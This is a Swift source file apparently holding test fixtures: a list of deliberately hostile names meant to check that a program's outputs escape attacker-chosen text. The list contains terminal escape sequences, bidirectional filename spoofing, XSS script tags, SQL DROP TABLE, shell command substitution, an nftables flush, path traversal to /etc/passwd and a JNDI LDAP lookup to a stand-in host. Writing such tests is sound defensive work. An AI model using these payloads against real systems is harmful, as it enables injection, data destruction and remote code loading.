/// Names as somebody would choose them who wants to do harm to whoever reads them, for all outputs alike.
public enum HostileNames {
    /// A kind of harm, and a name that tries it.
    public static let all: [(harm: String, name: String)] = [
        ("escape sequences", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31m"),
        ("C1 controls", "\u{9b}2J\u{90}q\u{9c}"),
        ("line breaks", "one\r\n2026-01-01T00:00:00Z  critical\u{2028}two\u{b}"),
        ("a NUL and backspaces", "a\u{0}b\u{8}\u{8}\u{7f}"),
        ("writing from right to left", "\u{202e}gnp.exe\u{2066}\u{200f}\u{61c}"),
        ("characters that nobody sees", "ad\u{200b}m\u{200d}i\u{feff}n\u{ad}\u{2060}"),
        ("tags", "x\u{e0041}\u{e0042}\u{e007f}"),
        ("a tower of marks", "z" + String(repeating: "\u{301}\u{489}", count: 200)),
        ("no meaning at all", "\u{fffe}\u{e000}\u{378}"),
        ("HTML", "<script>document.title='owned'</script><img src=x onerror=alert(1)>"),
        ("the end of a tag", "\"'></title></style></svg><base href=//192.0.2.1/>"),
        ("XML", "]]><!--&lt;&#60;--><?xml?>"),
        ("SQL", "'; DROP TABLE flows; -- \" OR 1=1"),
        ("a shell", "$(touch owned)`touch owned`;touch owned|&>owned --exec"),
        ("an option", "--output=/etc/passwd"),
        ("JSON", "\",\"event\":{\"kind\":\"state\"}}\n{\"x\":\"\\"),
        ("CEF", "a|10|src=6.6.6.6 msg=owned\\=\\|"),
        ("dot and Mermaid", "x\"]; y [URL=\"javascript:alert(1)\" label=<<b>b</b>>]; %%{init: {}}%% end --> z"),
        ("nftables and YAML", "x\" drop; flush ruleset; # \n  - !!python/object: {a: &a *a}"),
        ("a format string", "%s%n%x{0}${jndi:ldap://192.0.2.1/a}"),
        ("a path", "../../../../etc/passwd"),
        ("its length", String(repeating: "longer ", count: 60)),
    ]
}
